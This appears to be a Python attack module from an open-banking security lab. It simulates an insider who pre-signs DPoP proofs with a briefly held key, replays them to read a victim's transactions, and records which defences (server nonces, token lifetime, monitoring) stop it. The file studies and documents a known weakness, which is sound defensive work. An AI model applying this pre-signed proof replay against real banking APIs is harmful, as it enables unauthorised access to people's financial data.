"""dpop-pregenerated-proof: proofs signed in advance, used after the key was lost.

A FinLens insider (MT) had FinLens's DPoP key for a moment: it copied the victim's
token and signed 20 proofs for GET /accounts/{id}/transactions, iat spread over the
next 10 minutes, ath of that token. Then its access ended. Each minute it sends the
proof whose iat is nearest now. Without server nonces nothing ties a proof to the
moment it is used (RFC 9449 §11.2); with them the bank answers use_dpop_nonce, and
a proof made earlier cannot carry the nonce (§8, §11.3).
"""

from __future__ import annotations

from typing import Any

import requests

from attacker import insider
from attacker.attack_context import AttackContext
from attacker.attacks import LIMITS_ONLY, Attack
from attacker.forge import account_of, accounts_url, is_transactions
from attacker.premises import linked_victim
from lab import clock
from lab.tpp import dpop_signer as tpp_dpop

PROOFS = 20
SPACING = 30          # seconds between the proofs' iat: 20 proofs cover 10 minutes
MINUTES = 10


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    link = insider.link_of(ctx, victim)
    token = str(link["access_token"])
    scheme = "DPoP" if str(link["token_type"] or "").lower() == "dpop" else "Bearer"
    account_id = account_of(ctx.capture.first("resource", where=is_transactions)) or ""
    url = accounts_url(ctx, account_id, "transactions")
    signer = insider.dpop_signer_for(ctx, token)
    start = clock.now_int(ctx.store)
    proofs = {start + SPACING * (i + 1): signer.proof("GET", url, access_token=token,
                                                      iat=start + SPACING * (i + 1))
              for i in range(PROOFS)}
    del signer
    ctx.http.auth = None   # nor can it sign its calls (http_message_signing) with the lost key
    ctx.step("attacker", f"signs {PROOFS} proofs for GET /accounts/{account_id}/transactions "
             "with FinLens's key, iat every 30 s for 10 minutes; then loses the key")
    read: dict[int, Any] = {}
    refused: requests.Response | None = None
    for minute in range(1, MINUTES + 1):
        ctx.advance_clock(60)
        now = clock.now_int(ctx.store)
        response = _send(ctx, url, token, scheme, proofs, now, minute)
        if tpp_dpop.asks_for_nonce(response):
            # RFC 9449 §11.3: the nonce cannot be added without the key; try another proof.
            response = _send(ctx, url, token, scheme, proofs, now, minute, retry=True)
        if response.status_code != 200:
            refused = response
            break
        read[minute] = response.json()
    if not read:
        ctx.failed("the bank refused every proof made in advance", refused)
    stop = f"; refused at minute {len(read) + 1}" if refused is not None else ""
    ctx.succeeded(f"read the victim's transactions in {len(read)} of {MINUTES} minutes after "
                  f"losing the key{stop}", {"minutes": sorted(read), "last": read[max(read)]})


def _send(ctx: AttackContext, url: str, token: str, scheme: str, proofs: dict[int, str],
          now: int, minute: int, *, retry: bool = False) -> requests.Response:
    """Send (and spend) the unused proof whose iat is nearest now."""
    iat = min(proofs, key=lambda t: abs(t - now))
    proof = proofs.pop(iat)
    what = (f"minute {minute}: GET transactions with the proof made for "
            f"{iat - now:+d} s from now" + (", no nonce (retry)" if retry else ""))
    return ctx.send("GET", url, headers={"Authorization": f"{scheme} {token}", "DPoP": proof},
                    what=what)


ATTACK = Attack(
    id="dpop-pregenerated-proof", attacker="MT", legs=("store", "resource"), victim="prior",
    title="Proofs signed in advance, used after losing the key (why nonces; nonce bypass)",
    blocked_by=("dpop_nonce", "short_access_token_lifetime", "token_usage_monitoring"),
    premise="A FinLens insider who briefly had FinLens's store and keys: copied the victim's "
            "token, signed 20 proofs in advance (iat over 10 minutes) and lost the key; knows "
            "the account id from FinLens's own request log (the resource leg).",
    goal="the victim's transactions after key access was lost", run=run,
    needs={"sender_constraint": "dpop"}, fapi2_blocks=False,
    why_not="server nonces are optional in FAPI 2.0 (\"may\", §5.3.2.1); without them a proof "
            "made in advance is as good as a fresh one until its iat window passes",
    refs=("RFC 9449 §8, §9, §11.2, §11.3", "FAPI2 §5.3.2.1, §6.2"),
    not_alone={
        "short_access_token_lifetime":
            f"{LIMITS_ONLY}: the token lives 300 s, so the proofs made in advance "
            "still read data for the first five minutes",
        "token_usage_monitoring":
            f"{LIMITS_ONLY}: the proofs carry FinLens's own key and the requests "
            "FinLens's own program, one a minute; only the source address differs, an alert "
            "(weight 40) below the default threshold 60. Raising the address weight to the "
            "threshold makes it revoke the family on the first request",
    },
)
